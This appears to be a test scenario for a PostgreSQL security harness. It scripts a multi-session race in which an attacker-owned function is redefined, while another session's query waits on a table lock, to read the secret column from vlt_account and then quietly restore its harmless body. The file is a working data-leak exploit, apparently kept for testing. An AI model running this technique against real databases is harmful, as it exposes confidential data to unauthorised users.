-- Gives an own function another body while a statement waits, and its old one back before that ends.
-- wants: read
-- attack:
CREATE FUNCTION told() RETURNS text LANGUAGE plpgsql AS $$BEGIN RETURN 'nothing'; END$$;
-- session: first
BEGIN;
LOCK TABLE mallory_own IN ACCESS EXCLUSIVE MODE;
-- session: reader
-- without waiting
SELECT told(), pg_sleep(0.5) FROM mallory_own;
-- session: second
SELECT pg_sleep(0.3);
CREATE OR REPLACE FUNCTION told() RETURNS text LANGUAGE plpgsql AS
  $$BEGIN RETURN (SELECT secret FROM vlt_account WHERE id = 1); END$$;
-- session: first
COMMIT;
SELECT pg_sleep(0.2);
-- session: second
CREATE OR REPLACE FUNCTION told() RETURNS text LANGUAGE plpgsql AS $$BEGIN RETURN 'nothing'; END$$;
